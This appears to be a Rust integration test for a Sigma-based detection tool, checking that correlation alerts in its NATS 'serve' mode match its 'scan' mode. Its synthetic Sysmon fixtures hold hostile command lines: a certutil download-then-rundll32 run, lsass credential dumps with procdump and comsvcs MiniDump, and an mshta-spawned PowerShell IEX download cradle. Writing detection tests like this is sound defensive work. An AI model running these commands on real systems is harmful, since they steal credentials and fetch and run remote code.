//! Correlation rules in `sigmata serve` against a real nats-server: the
//! built-in pack's correlations (a value_count discovery burst, event_count
//! credential dumping, temporal_ordered download-then-execute and mshta ->
//! PowerShell, and a chain of correlations) over events of two hosts give
//! the same (correlation, group) alerts as `scan` of the same file, with one
//! worker (run to the end of the stream, or stopped by SIGTERM) and with two
//! partition workers (each host on one of them); a reload starts the
//! correlations afresh.

use std::collections::BTreeMap;
use std::path::Path;
use std::time::Duration;

use serde_json::{Value, json};

use crate::nats_support::{Nats, Worker, bin};

const LIMIT: Duration = Duration::from_secs(120);

/// Events in time order (so that no event is later than --max-lateness
/// behind another, in the whole file or in either host's share of it).
/// ws23 and ws17 fall on partitions 0 and 1 of 2 (FNV-1a of the name).
fn events() -> Vec<Value> {
    let ev = |host: &str, user: &str, time: &str, image: &str, cmd: &str, extra: Value| {
        let mut v = json!({
            "EventID": 1,
            "Channel": "Microsoft-Windows-Sysmon/Operational",
            "Computer": host,
            "User": user,
            "UtcTime": format!("2026-12-01 {time}.000"),
            "Image": image,
            "CommandLine": cmd,
        });
        if let (Some(o), Value::Object(e)) = (v.as_object_mut(), extra) {
            o.extend(e);
        }
        v
    };
    let sys = |exe: &str| format!(r"C:\Windows\System32\{exe}");
    let none = json!({});
    vec![
        // ws23: alice downloads with certutil, then runs the DLL with rundll32.
        ev(
            "ws23",
            r"CORP\alice",
            "09:00:00",
            &sys("certutil.exe"),
            r"certutil  -urlcache -split -f http://198.51.100.23/stage.txt C:\Users\alice\AppData\Roaming\s.dll",
            json!({"OriginalFileName": "CertUtil.exe", "ParentImage": sys("cmd.exe")}),
        ),
        ev("ws23", r"CORP\alice", "09:05:00", &sys("notepad.exe"), "notepad.exe notes.txt", none.clone()),
        ev(
            "ws23",
            r"CORP\alice",
            "09:12:30",
            &sys("rundll32.exe"),
            r"rundll32.exe C:\Users\alice\AppData\Roaming\s.dll,DllRegisterServer",
            json!({"OriginalFileName": "RUNDLL32.EXE", "ParentImage": sys("cmd.exe")}),
        ),
        // ws23: bob runs four discovery tools in three minutes.
        ev("ws23", r"CORP\bob", "09:20:00", &sys("whoami.exe"), "whoami /all", none.clone()),
        ev("ws23", r"CORP\bob", "09:21:00", &sys("net.exe"), r#"net group "Domain Admins" /domain"#, none.clone()),
        ev("ws23", r"CORP\bob", "09:22:00", &sys("nltest.exe"), "nltest /dclist:corp", none.clone()),
        ev("ws23", r"CORP\bob", "09:23:00", &sys("systeminfo.exe"), "systeminfo", none.clone()),
        // ws17: mallory chains discovery from a web server, then dumps
        // credentials twice (a correlation, and a chain over it).
        ev(
            "ws17",
            r"CORP\mallory",
            "10:00:00",
            &sys("cmd.exe"),
            r#"cmd.exe /c "whoami /all & net group "Domain Admins" /domain & nltest /dclist:corp.example.com""#,
            json!({"OriginalFileName": "Cmd.Exe", "ParentImage": sys(r"inetsrv\w3wp.exe")}),
        ),
        ev(
            "ws17",
            r"CORP\mallory",
            "10:20:00",
            r"C:\Tools\procdump64.exe",
            r"procdump64.exe -accepteula -ma lsass.exe C:\Windows\Temp\l.dmp",
            json!({"OriginalFileName": "procdump", "ParentImage": sys("cmd.exe")}),
        ),
        ev(
            "ws17",
            r"CORP\mallory",
            "10:22:00",
            &sys("rundll32.exe"),
            r#""C:\Windows\System32\rundll32.exe" C:\windows\System32\comsvcs.dll MiniDump 628 C:\Windows\Temp\lsass.dmp full"#,
            json!({"OriginalFileName": "RUNDLL32.EXE", "ParentImage": sys(r"WindowsPowerShell\v1.0\powershell.exe")}),
        ),
        // ws17: mshta runs a remote HTA, and that very process starts a cradle.
        ev(
            "ws17",
            r"CORP\carol",
            "11:00:00",
            &sys("mshta.exe"),
            "mshta.exe https://198.51.100.7/invoice.hta",
            json!({"ProcessId": "4242", "ParentProcessId": "1010"}),
        ),
        ev(
            "ws17",
            r"CORP\carol",
            "11:00:04",
            &sys(r"WindowsPowerShell\v1.0\powershell.exe"),
            r#"powershell -nop -c "IEX (New-Object Net.WebClient).DownloadString('https://198.51.100.7/a')""#,
            json!({"ProcessId": "5150", "ParentProcessId": "4242"}),
        ),
        ev("ws17", r"CORP\carol", "11:00:30", &sys("notepad.exe"), "notepad.exe", none),
    ]
}

/// A correlation alert's key: (correlation id, group as JSON text).
fn key(a: &Value) -> (String, String) {
    (a["rule_id"].as_str().unwrap_or_default().to_string(), a["correlation"]["group"].to_string())
}

/// The correlation alerts of `scan` of `file` (built-in pack), by key.
fn scan_correlations(file: &Path) -> BTreeMap<(String, String), Value> {
    let out = std::process::Command::new(bin()).args(["scan", "--format", "jsonl"]).arg(file).output().unwrap();
    assert!(out.status.code().is_some_and(|c| c <= 1), "scan failed: {}", String::from_utf8_lossy(&out.stderr));
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap())
        .filter(|v| v.get("correlation").is_some())
        .map(|v| (key(&v), v))
        .collect()
}

/// The alert without what names where it was read (the stream or the file).
fn without_origin(a: &Value) -> Value {
    let mut a = a.clone();
    if let Some(o) = a.as_object_mut() {
        for k in ["source", "stream_seq", "subject"] {
            o.remove(k);
        }
    }
    if let Some(events) = a["correlation"]["events"].as_array_mut() {
        for e in events {
            e.as_object_mut().unwrap().remove("source");
        }
    }
    a
}

/// Checks serve's correlation alerts against scan's: the same keys, each
/// alert the same object as scan's (events named by stream sequence =
/// line), attributed to a message at or after every event it lists.
fn check(got: &[Value], expected: &BTreeMap<(String, String), Value>, stream: &str) {
    let mut seen = BTreeMap::new();
    for a in got.iter().filter(|a| a.get("correlation").is_some()) {
        assert_eq!(a["source"], stream, "{a}");
        assert!(a["subject"].is_string(), "{a}");
        let seq = a["stream_seq"].as_u64().expect("stream_seq");
        for e in a["correlation"]["events"].as_array().unwrap() {
            assert!(e["line"].as_u64().unwrap() <= seq, "attributed to {seq}, before the event it lists: {a}");
            assert_eq!(e["source"], stream, "{a}");
        }
        seen.insert(key(a), a.clone());
    }
    let (want, have): (Vec<_>, Vec<_>) = (expected.keys().collect(), seen.keys().collect());
    assert_eq!(have, want, "serve's correlation alerts differ from scan's");
    for (k, a) in &seen {
        assert_eq!(without_origin(a), without_origin(&expected[k]));
    }
}

#[test]
fn serve_correlations_equal_scan_with_one_worker_and_with_two_partitions() {
    let Some(nats) = Nats::shared_or_own("serve_correlations") else { return };
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("events.jsonl");
    let text: String = events().iter().map(|e| format!("{e}\n")).collect();
    std::fs::write(&file, text).unwrap();
    let expected = scan_correlations(&file);
    let types: std::collections::BTreeSet<&str> =
        expected.values().filter_map(|a| a["correlation"]["type"].as_str()).collect();
    assert_eq!(types.len(), 3, "the events should fire value_count, event_count and temporal_ordered: {types:?}");
    assert_eq!(expected.len(), 5, "{:?}", expected.keys().collect::<Vec<_>>());

    // One worker: everything in stream order, as scan reads the file.
    let stream = nats.stream("EV1", &["e1.>"]);
    let alerts = nats.stream("AL1", &["al1", "al1.>"]);
    nats.publish("e1.x", &file, &[]);
    let mut args = nats.serve_args(&stream, "one", "al1");
    args.extend(["--exit-when-idle", "-j", "2"].map(String::from));
    let mut w = Worker::start(&args, false);
    assert_eq!(w.wait(LIMIT), Some(0), "{}", w.log_text());
    let warned = w.log().iter().any(|l| l["level"] == "warn" && l["msg"].as_str().unwrap().contains("per process"));
    assert!(warned, "no warning that correlation state is per process:\n{}", w.log_text());
    let got = nats.read(&alerts, Some("al1"));
    check(&got, &expected, &stream);
    let stopped = w.last("stopped").expect("a 'stopped' line");
    assert_eq!(stopped["correlation_alerts"], expected.len() as u64, "{stopped}");

    // A worker that keeps running: the alerts whose windows are settled
    // are out, the rest is held (metrics show it); SIGTERM closes the
    // windows and publishes the rest before exit.
    let alerts = nats.stream("AL3", &["al3", "al3.>"]);
    let mut args = nats.serve_args(&stream, "term", "al3");
    args.extend(["-j", "1"].map(String::from));
    let mut w = Worker::start(&args, true);
    w.wait_metric("sigmata_acked_total", events().len() as f64, LIMIT);
    // mshta -> PowerShell at 11:00 waits for an event a minute later.
    assert_eq!(w.metric("sigmata_correlation_alerts_total"), Some(4.0), "{}", w.metrics_text().unwrap_or_default());
    assert_eq!(w.metric("sigmata_correlation_buffered_events"), Some(2.0));
    assert!(w.metric("sigmata_correlation_groups").is_some_and(|g| g >= 1.0));
    crate::nats_support::signal(w.pid(), "TERM");
    assert_eq!(w.wait(LIMIT), Some(0), "{}", w.log_text());
    let closed = w.last("correlation windows closed at stop").expect("a line for the windows closed");
    assert_eq!((closed["alerts"].as_u64(), closed["published"].as_u64()), (Some(1), Some(1)), "{closed}");
    check(&nats.read(&alerts, Some("al3")), &expected, &stream);

    // Two partitions: each host's events on one worker; the union is scan's.
    let stream = nats.stream("EV2", &["e2.>"]);
    let alerts = nats.stream("AL2", &["al2", "al2.>"]);
    nats.publish("e2", &file, &["--partitions", "2", "--partition-key", "Computer"]);
    let mut workers = Vec::new();
    for k in 0..2 {
        let mut args = nats.serve_args(&stream, "part", "al2");
        let partition = format!("{k}/2");
        args.extend(
            ["--exit-when-idle", "-j", "1", "--partition", &partition, "--partition-prefix", &nats.subject("e2")]
                .map(String::from),
        );
        workers.push(Worker::start(&args, false));
    }
    let mut per_worker = Vec::new();
    for w in &mut workers {
        assert_eq!(w.wait(LIMIT), Some(0), "{}", w.log_text());
        assert!(!w.log_text().contains("per process"), "a partition worker warned:\n{}", w.log_text());
        per_worker.push(w.last("stopped").unwrap()["correlation_alerts"].as_u64().unwrap());
    }
    assert!(per_worker.iter().all(|n| *n > 0), "a partition raised no correlation alert: {per_worker:?}");
    let got = nats.read(&alerts, Some("al2"));
    check(&got, &expected, &stream);
    eprintln!(
        "{} correlation alerts of {} types = scan's, with 1 worker and with 2 partitions ({per_worker:?})",
        expected.len(),
        types.len()
    );
}

const TWICE: &str = r#"title: Whoami
id: 00000000-0000-4000-8000-0000000000c1
name: whoami
level: low
logsource: {category: process_creation, product: windows}
detection:
    selection:
        Image|endswith: '\whoami.exe'
    condition: selection
---
title: Whoami twice
id: 00000000-0000-4000-8000-0000000000c2
level: high
correlation: {type: event_count, rules: [whoami], group-by: [User], timespan: 10m, condition: {gte: 2}}
generate: true
"#;

#[test]
fn serve_reload_starts_correlations_afresh() {
    let Some(nats) = Nats::shared_or_own("serve_corr_reload") else { return };
    let dir = tempfile::tempdir().unwrap();
    let rules = dir.path().join("rules");
    std::fs::create_dir(&rules).unwrap();
    std::fs::write(rules.join("r.yml"), TWICE).unwrap();
    let stream = nats.stream("EV", &["ev.>"]);
    let alerts = nats.stream("AL", &["al", "al.>"]);
    let mut args = nats.serve_args(&stream, "c", "al");
    args.extend(["-r", &rules.display().to_string(), "--max-lateness", "0s", "-j", "1"].map(String::from));
    let w = Worker::start(&args, true);
    w.wait_metric("sigmata_pack_rules", 1.0, LIMIT);
    let file = dir.path().join("e.jsonl");
    let publish = |minute: u32| {
        let e = json!({"Image": r"C:\Windows\System32\whoami.exe", "User": "bob",
                       "UtcTime": format!("2026-12-01 10:0{minute}:00.000")});
        std::fs::write(&file, format!("{e}\n")).unwrap();
        nats.publish("ev.x", &file, &[]);
    };
    let correlations = || nats.read(&alerts, Some("al")).into_iter().filter(|a| a.get("correlation").is_some());
    publish(0);
    w.wait_metric("sigmata_acked_total", 1.0, LIMIT);
    assert_eq!(w.metric("sigmata_correlation_groups"), Some(1.0));
    // The same pack again: its correlator starts empty, so bob's first
    // event is forgotten and the second does not fire.
    crate::nats_support::signal(w.pid(), "HUP");
    w.wait_metric("sigmata_reloads_total", 1.0, LIMIT);
    let dropped = w.last("the previous pack's correlation state is discarded; the new pack's correlations start empty");
    assert_eq!(dropped.expect("the discarded state is logged")["groups"], 1);
    publish(1);
    w.wait_metric("sigmata_acked_total", 2.0, LIMIT);
    assert_eq!(correlations().count(), 0);
    // A third event is the new correlator's second: it fires, and its
    // alert is out before the event is acknowledged.
    publish(2);
    w.wait_metric("sigmata_acked_total", 3.0, LIMIT);
    let fired: Vec<Value> = correlations().collect();
    assert_eq!(fired.len(), 1, "{fired:?}");
    assert_eq!((fired[0]["stream_seq"].as_u64(), fired[0]["correlation"]["events_total"].as_u64()), (Some(3), Some(2)));
    assert_eq!(w.metric("sigmata_correlation_alerts_total"), Some(1.0));
}
